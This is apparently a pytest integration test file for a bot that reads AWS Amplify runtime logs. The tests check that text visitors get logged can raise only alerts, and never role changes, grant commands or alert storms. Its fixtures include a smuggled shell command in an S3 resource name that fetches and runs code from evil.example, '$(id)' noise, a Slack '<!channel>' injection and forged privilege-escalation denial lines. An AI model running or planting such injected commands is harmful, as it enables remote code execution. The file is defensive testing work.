"""What visitors make a site print: it may cause an alert, and nothing else. AWS's state decides the rest."""

from __future__ import annotations

import random
import re
from datetime import timedelta
from typing import TYPE_CHECKING

import pytest

from medic.aws.logs import log_group
from medic.events import RequestKind, Scope, runtime_wake_up
from tests.integration.conftest import REGION
from tests.integration.test_requests import ask, failing, incident
from tests.integration.test_runtime_findings import (
    FIX,
    HOUR,
    MINUTE,
    NO_REBUILD,
    ORDERS,
    Site,
    site,
    two_branches,
)
from tests.unit.flows.test_any_runtime_text import PHRASES

if TYPE_CHECKING:
    from tests.integration.conftest import World

NO_CREDENTIALS = "CredentialsProviderError: Could not load credentials from any providers"
SESSION = "arn:aws:sts::123456789012:assumed-role/compute/AmplifyHostingCompute"


def denied(action: str, resource: str, caller: str = SESSION) -> str:
    reason = f"because no identity-based policy allows the {action} action"
    return f"AccessDenied: User: {caller} is not authorized to perform: {action} on resource: {resource} {reason}"


def with_role(world: World, tags: dict[str, str] | None = None, role: str = "compute") -> Site:
    """A site whose branch has a usable compute role without permissions."""
    shop = site(world, tags, name=f"app-{role}")
    world.client("amplify").update_branch(appId=shop.app, branchName="main", computeRoleArn=world.make_role(role))
    world.amplify.control.forget_calls()
    return shop


def prints(world: World, shop: Site, *lines: str, branch: str = "main") -> None:
    for line in lines:
        world.amplify.control.print_at_runtime(shop.app, branch, line)


# --- after a change that works


def mended(world: World) -> Site:
    """A site whose branch got a role that works, ten minutes ago."""
    shop = site(world, NO_REBUILD)
    shop.visit()
    shop.look()
    assert shop.visit() == 200
    return shop.after(10 * MINUTE)


def test_a_line_after_a_change_that_works_ends_nothing_and_is_not_told(world: World) -> None:
    shop = mended(world)
    prints(world, shop, f"GET /?q={NO_CREDENTIALS}")
    shop.look()

    assert shop.states == ["applied"]
    assert len(shop.alerts) == 1


def test_a_role_that_somebody_took_off_is_a_new_incident_and_somebody_is_asked(world: World) -> None:
    """Also after a visitor wrote the error into the log, and in the same day."""
    shop = mended(world)
    prints(world, shop, NO_CREDENTIALS)
    shop.look()
    world.client("amplify").update_branch(appId=shop.app, branchName="main", computeRoleArn="")
    world.amplify.control.forget_calls()
    for _ in range(3):
        assert shop.after(HOUR).visit() == 500
        shop.look()
        world.watch()

    assert shop.states == ["expired", "awaiting_approval"]
    assert world.calls("UpdateBranch") == []
    (alert,) = shop.alerts[1:]
    assert "took it off" in alert


def test_a_role_that_somebody_took_off_after_the_recovery_is_asked_for_too(world: World) -> None:
    shop = mended(world)
    for _ in range(14):
        shop.visit()
        shop.after(5 * MINUTE)
    world.watch()
    assert shop.states == ["resolved"]
    world.client("amplify").update_branch(appId=shop.app, branchName="main", computeRoleArn="")
    shop.after(26 * HOUR).visit()
    shop.look()

    assert shop.states == ["resolved", "awaiting_approval"]
    assert "took it off" in shop.alerts[-1]


def test_a_role_that_was_undone_is_asked_for_in_another_kind_of_failure_too(world: World) -> None:
    app = failing(world, "fix")
    world.amplify.control.set_connection(app, "ok")
    world.build(app)
    assert ask(world, app, RequestKind.UNDO).startswith("used: attach_compute detached")
    shop = Site(world, app)
    world.amplify.control.forget_calls()
    assert shop.after(2 * HOUR).visit() == 500
    shop.look()

    assert shop.states[-1] == "awaiting_approval"
    assert world.calls("UpdateBranch") == []


def test_an_error_that_goes_on_for_an_hour_after_the_change_is_told_once_and_ends_nothing(world: World) -> None:
    world.amplify.control.set_questions(first_attach="needs_redeploy")
    shop = site(world, NO_REBUILD)
    for _ in range(20):
        assert shop.visit() == 500
        shop.look()
        shop.after(5 * MINUTE)
        world.watch()

    assert shop.states == ["applied"]
    (alert,) = shop.alerts[1:]
    assert "Not confirmed" in alert
    assert "Redeploy the branch" in alert
    assert len(world.calls("UpdateBranch")) == 1


def written_late(world: World, shop: Site, message: str, *, ago: float) -> None:
    """Let a line of some seconds ago appear in the log only now, and wake the bot for it."""
    logs = world.client("logs")
    stream = logs.describe_log_streams(logGroupName=log_group(shop.app))["logStreams"][0]["logStreamName"]
    at = world.now() - timedelta(seconds=ago)
    world.amplify.fake.state.ports.logs._logs.groups[log_group(shop.app)].put_log_events(  # type: ignore[attr-defined]
        stream, [{"timestamp": int(at.timestamp() * 1000), "message": message}]
    )
    scope = Scope("aws", world.amplify.account_id, REGION, shop.app, "*")
    world.deliver(runtime_wake_up(scope, at, at))


@pytest.mark.parametrize("line", [NO_CREDENTIALS, denied("dynamodb:GetItem", ORDERS)], ids=["same", "other label"])
@pytest.mark.parametrize("ended", [False, True], ids=["applied", "resolved"])
def test_a_line_from_before_the_change_that_comes_late_opens_nothing(world: World, line: str, *, ended: bool) -> None:
    shop = mended(world)
    if ended:
        for _ in range(14):
            shop.visit()
            shop.after(5 * MINUTE)
        world.watch()
    states, told = shop.states, len(shop.alerts)
    assert states == ["resolved" if ended else "applied"]
    written_late(world, shop, line, ago=80 * MINUTE + 1 if ended else 10 * MINUTE + 1)

    assert shop.states == states
    assert len(shop.alerts) == told


# --- what text chooses: no branch, no role, no action


@pytest.mark.parametrize("lacking", [["main", "dev"], ["dev"], []], ids=["both lack a role", "the other", "none"])
def test_a_branch_named_in_a_line_is_not_chosen(world: World, lacking: list[str]) -> None:
    shop = two_branches(world, FIX)
    for branch in {"main", "dev"} - set(lacking):
        role = world.make_role(f"compute-{branch}")
        world.client("amplify").update_branch(appId=shop.app, branchName=branch, computeRoleArn=role)
    world.amplify.control.forget_calls()
    arn = f"arn:aws:amplify:{REGION}:123456789012:apps/{shop.app}/branches/main"
    prints(world, shop, f"404 https://main.{shop.app}.amplifyapp.com/?q={arn} {NO_CREDENTIALS}")
    shop.look()

    assert world.compute_role(shop.app, "main") != world.default_role_arn
    assert (world.compute_role(shop.app, "dev") == world.default_role_arn) is (lacking == ["dev"])


# --- what is said


HOSTILE = {
    "an access key": denied("iam:CreateAccessKey", "arn:aws:iam::123456789012:user/admin"),
    "everything": denied("iam:*", "*"),
    "a role to pass": denied("iam:PassRole", "arn:aws:iam::123456789012:role/Admin"),
    "all objects of a bucket": denied("s3:PutObject", '"arn:aws:s3:::somebody-elses-bucket/*"'),
    "an object": denied("s3:PutObject", "arn:aws:s3:::somebody-elses-bucket/key"),
    "another account": denied("s3:GetObject", "arn:aws:s3:::data/*", "arn:aws:sts::999988887777:assumed-role/evil/x"),
    "a role of another app": denied("s3:GetObject", "arn:aws:s3:::b/k", SESSION.replace("/compute/", "/payments/")),
    "a user": denied("sts:AssumeRole", "arn:aws:iam::123456789012:role/x", "arn:aws:iam::123456789012:user/x"),
    "a shell": denied("s3:GetObject", "arn:aws:s3:::b/$(curl${IFS}evil.example|sh)'\"`id`"),
    "a control policy": f"User: {SESSION} is not authorized to perform: s3:GetObject with an explicit deny in a "
    "service control policy: arn:aws:organizations::999988887777:policy/o-1/service_control_policy/p-1",
    "amplify's own verdict": "2026-11-26T10:00:00.000Z [ERROR]: !!! Unable to assume specified IAM Role. Please ensure "
    "the selected IAM Role has sufficient permissions and the Trust Relationship is configured correctly.",
    "an expired token": "ExpiredTokenException: The security token included in the request is expired",
}
GRANTS = re.compile(r"put-role-policy|attach-role-policy|put-user-policy|update-assume-role-policy|create-policy")


def test_no_line_is_called_proven_or_answered_with_a_command_that_grants(world: World) -> None:
    for number, line in enumerate(HOSTILE.values()):
        shop = with_role(world, {}, f"compute{number}")
        prints(world, shop, line.replace("/compute/", f"/compute{number}/"))
        shop.look()
    told = [*world.alerts(), *world.emails()]

    assert len(told) >= len(HOSTILE)
    assert [text for text in told if "Proven" in text] == []
    assert [text for text in told if GRANTS.search(text)] == []
    assert world.calls("UpdateBranch") == []


@pytest.mark.parametrize("name", ["an access key", "everything", "a role to pass", "a role of another app"])
def test_a_right_that_leads_to_more_power_is_at_most_a_possible_cause(world: World, name: str) -> None:
    shop = with_role(world)
    prints(world, shop, HOSTILE[name])
    shop.look()

    assert all("Likely" not in alert for alert in shop.alerts), shop.alerts


# --- what is displaced or set off


@pytest.mark.parametrize("many", [5, 40])
def test_many_denials_displace_no_real_failure(world: World, many: int) -> None:
    shop = site(world, FIX)
    around = [denied("s3:GetObject", f"arn:aws:s3:::b/{n}", SESSION.replace("compute", f"r{n}")) for n in range(many)]
    prints(world, shop, *around)
    shop.visit()
    prints(world, shop, *(line.replace("/r", "/q") for line in around))
    shop.look()

    assert world.compute_role(shop.app) == world.default_role_arn
    assert [each["label"] for each in shop.incidents] == ["credentials_missing_runtime"]
    assert "The log already names s3:GetObject." in shop.alerts[0]


def test_lines_on_many_sites_make_no_storm_if_the_state_contradicts_them(world: World) -> None:
    world.settings["limits"] = {"storm_apps": 2}
    for number in range(4):
        shop = with_role(world, FIX, f"compute{number}")
        prints(world, shop, NO_CREDENTIALS)
        shop.look()
    victim = world.make_app(tags=FIX, name="victim")
    world.amplify.control.set_connection(victim, "lost")
    world.deliver(world.build(victim))

    assert incident(world, victim).changes != ()
    assert not [alert for alert in world.alerts() if "Storm" in alert]


# --- any text at all

NOISE = ("\n", " ", "\x1b[31m", "\0", "\u2028", "<!channel>", "$(id)", "%s{}", "é" * 40, "A" * 20_000)
TEXTS = 15
"""Made of pieces of every signature and denial, so that many of them pass the filter."""


def any_text(draw: random.Random) -> str:
    pieces = [draw.choice((PHRASES, PHRASES, tuple(HOSTILE.values()), NOISE)) for _ in range(draw.randint(1, 5))]
    return "".join(draw.choice(each) for each in pieces)


@pytest.mark.parametrize("seed", [1, 2])
def test_no_text_does_more_than_cause_alerts(world: World, seed: int) -> None:
    world.settings["limits"] = {"storm_apps": 1}
    sites = (mended(world), with_role(world, {}), site(world, {}, name="lacking"), site(world, {}, name="other"))
    told, changes, draw = len(world.alerts()), len(world.calls("UpdateBranch")), random.Random(seed)  # noqa: S311
    for _ in range(TEXTS):
        text = any_text(draw)
        for each in sites:
            prints(world, each, text)
    sites[0].look()
    world.watch()

    new = [*world.alerts()[told:], *world.emails()]
    assert len(new) > len(sites)
    assert [text for text in new if "Proven" in text or "Storm" in text or GRANTS.search(text)] == []
    assert len(world.calls("UpdateBranch")) == changes
    assert set(sites[0].states) == {"applied", "open"}
    assert {each["label"] for each in sites[0].incidents} & {
        "credentials_missing_build",
        "service_role_unassumable",
    } == set()
